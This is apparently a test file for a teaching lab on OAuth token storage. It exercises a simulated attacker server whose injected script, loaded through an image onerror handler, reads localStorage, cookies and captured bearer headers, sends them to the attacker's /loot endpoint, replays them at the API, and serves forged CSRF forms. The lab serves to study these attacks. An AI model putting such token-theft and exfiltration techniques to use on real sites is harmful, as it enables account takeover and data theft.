import { runInNewContext } from 'node:vm'
import { describe, expect, test } from 'vitest'
import { injectedComment, injectedHandler, STORAGE_CHOICES } from '@/lib/oauth/browser-storage'
import { handleAttacker } from '../handler'
import type { Loot } from '../xss-script/plunder'

const ATTACKER = 'http://127.0.0.1:3004/a-lab-of-ours'
const ORIGINS = {
  attacker: ATTACKER,
  client: 'http://localhost:3003/client/a-lab-of-ours',
  resource: 'http://localhost:3002/a-lab-of-ours',
  issuer: 'http://localhost:3001/a-lab-of-ours',
  app: 'http://localhost:3000',
}

/** The attacker's site with a network that remembers what she sent. */
function site() {
  const sent: { url: string; authorization: string | null }[] = []
  const open = (path: string, init?: RequestInit) =>
    handleAttacker(new Request(ATTACKER + path, init), {
      origins: ORIGINS,
      now: () => 0,
      report: () => {},
      published: {},
      relay: {},
      async fetch({ url, headers }) {
        sent.push({ url, authorization: headers.get('authorization') })
        return new Response(null, { status: 401 })
      },
    })
  return { open, sent }
}

describe('loot', () => {
  test('every value that could be a token is tried once at the API, from her own server', async () => {
    const { open, sent } = site()
    const loot = { localStorage: ['one', 'not sendable\n'], cookies: ['two', 'one'], authorization: 'Bearer three' }
    expect((await open('/loot', { method: 'POST', body: JSON.stringify(loot) })).status).toBe(204)
    expect(sent.map(({ authorization }) => authorization)).toEqual(['Bearer one', 'Bearer two', 'Bearer three'])
    expect(new Set(sent.map(({ url }) => url))).toEqual(new Set([`${ORIGINS.resource}/photos`]))
  })

  test.each(['', 'no JSON', '[]', '{"cookies":7}', '{"cookies":[{"a":1}]}'])('tries nothing of %j', async (body) => {
    const { open, sent } = site()
    expect((await open('/loot', { method: 'POST', body })).status).toBe(204)
    expect(sent).toEqual([])
  })
})

test('the advertisement is a picture and nothing more', async () => {
  const answer = await site().open('/advertisement.svg')
  expect(answer.headers.get('content-type')).toBe('image/svg+xml')
  expect(await answer.text()).not.toMatch(/script|href|on\w+=/)
})

describe('the forged form', () => {
  test.each(STORAGE_CHOICES)('$name: goes where the application writes', async ({ id, keeps }) => {
    const { open } = site()
    const html = await (await open(`/forged-form?choice=${id}&way=form`)).text()
    const direct = !['cookie', 'session'].includes(keeps)
    const base = `${ORIGINS.client}/storage-lab/${id}`
    const api = `${ORIGINS.resource}/photos`
    expect(html).toContain(`<form method="post" action="${direct ? api : `${base}/photos`}">`)
    expect(html).toContain(`picture.src = '${direct ? api : `${base}/add`}?'`)
    expect(await (await open(`/forged-form?choice=${id}&way=link`)).text()).toContain('<form method="get"')
  })

  test('names no application it was not asked for', async () => {
    const { open } = site()
    expect((await open('/forged-form?choice=%3Cscript%3E')).status).toBe(404)
  })
})

/** A page in which nothing but what the script uses is there. */
function page({ signedIn }: { signedIn: boolean }) {
  const sent: { url: string; init: RequestInit }[] = []
  const storage = (rows: Record<string, string>) => Object.assign({ getItem: (key: string) => rows[key] ?? null }, rows)
  const window = {
    location: { pathname: '/client/a-lab-of-ours/storage-lab/memory/' },
    sessionStorage: storage({}),
    localStorage: storage({ 'access_token.a-lab-': 'ours', 'access_token.others': 'not ours' }),
    crypto: globalThis.crypto,
    setTimeout: (act: () => void) => void setTimeout(act, 0),
    async fetch(url: string, init: RequestInit = {}) {
      sent.push({ url, init })
      return { status: 201 }
    },
    document: {
      cookie: 'a=one; b=two',
      querySelector: () => ({
        click() {
          if (signedIn) window.fetch('http://api/photos', { headers: { authorization: 'Bearer in a closure' } })
        },
      }),
    },
  }
  return { window, sent }
}

async function plundered(signedIn: boolean) {
  const { window, sent } = page({ signedIn })
  const script = await (await site().open('/plunder.js')).text()
  runInNewContext(script, { window, Headers, URLSearchParams, JSON, Promise, Object, String })
  await expect.poll(() => sent.at(-1)?.url).toBe(`${ATTACKER}/loot`)
  const loot: Loot = JSON.parse(String(sent.at(-1)?.init.body))
  return { loot, sent }
}

describe('the script', () => {
  test('takes this lab’s values, catches the header of a request and writes with it', async () => {
    const { loot, sent } = await plundered(true)
    expect(loot).toMatchObject({ localStorage: ['ours'], sessionStorage: [], cookies: ['one', 'two'] })
    expect(loot.authorization).toBe('Bearer in a closure')
    expect(loot.written).toMatchObject({ status: 201, title: expect.stringMatching(/^Planted by a script \w{8}$/) })
    const write = sent[1]
    expect(write).toMatchObject({ url: 'http://api/photos', init: { method: 'POST' } })
    expect(new Headers(write?.init.headers).get('authorization')).toBe('Bearer in a closure')
  })

  test('reports empty-handed where the page sends nothing', async () => {
    const { loot } = await plundered(false)
    expect(loot).toMatchObject({ authorization: null, written: null })
  })

  test('comes into a page by the handler of a picture, whose text is all that a policy has to name', () => {
    expect(injectedComment(ATTACKER)).toContain(`onerror="${injectedHandler(ATTACKER)}"`)
    expect(injectedHandler(ATTACKER)).not.toContain('"')
  })
})
